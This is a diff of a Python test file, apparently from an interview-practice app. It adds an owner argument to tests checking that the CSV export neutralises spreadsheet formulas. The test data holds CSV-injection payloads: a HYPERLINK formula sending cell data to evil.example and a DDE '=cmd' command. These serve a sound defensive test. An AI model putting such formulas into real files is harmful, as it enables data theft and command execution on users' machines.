@@ -13,13 +13,13 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example?d=\"&A1,\"Click\")", "@SUM(1+1)*cm
             "-2+3", "\t=1+1", "\r=1+1"]
 
 
-def test_answers_csv_neutralises_spreadsheet_formulas_in_every_cell(data_dir):
-    target = storage.create_target("=cmd|' /C calc'!A0", "@SUM(A1:A9)")
-    session = storage.start_session(target.id, "realistic")
+def test_answers_csv_neutralises_spreadsheet_formulas_in_every_cell(data_dir, me):
+    target = storage.create_target("=cmd|' /C calc'!A0", "@SUM(A1:A9)", owner=me)
+    session = storage.start_session(target.id, "realistic", owner=me)
     for n, formula in enumerate(FORMULAS):
         storage.add_answer(session.id, {"id": f"q-{n}", "text": formula, "category": "-motivation"},
-                           typed_text="typed")
-    path = storage.export_all(data_dir / "export.zip")
+                           typed_text="typed", owner=me)
+    path = storage.export_all(data_dir / "export.zip", owner=me)
 
     with zipfile.ZipFile(path) as archive:
         rows = list(csv.DictReader(io.StringIO(archive.read("answers.csv").decode())))
@@ -32,12 +32,12 @@ def test_answers_csv_neutralises_spreadsheet_formulas_in_every_cell(data_dir):
     assert rows[0]["session_id"] == str(session.id)  # plain values are untouched
 
 
-def test_the_export_holds_the_imported_question_sets(data_dir, tmp_path):
+def test_the_export_holds_the_imported_question_sets(data_dir, tmp_path, me):
     upload = tmp_path / "mine.csv"
     upload.write_text("id,text,category\nmy-001,Why this team?,motivation\nmy-002,Why now?,motivation\n",
                       encoding="utf-8")
     question_sets.import_question_set(upload)
-    path = storage.export_all(tmp_path)
+    path = storage.export_all(tmp_path, owner=me)
 
     with zipfile.ZipFile(path) as archive:
         sets = [n for n in archive.namelist() if n.startswith("questions/")]
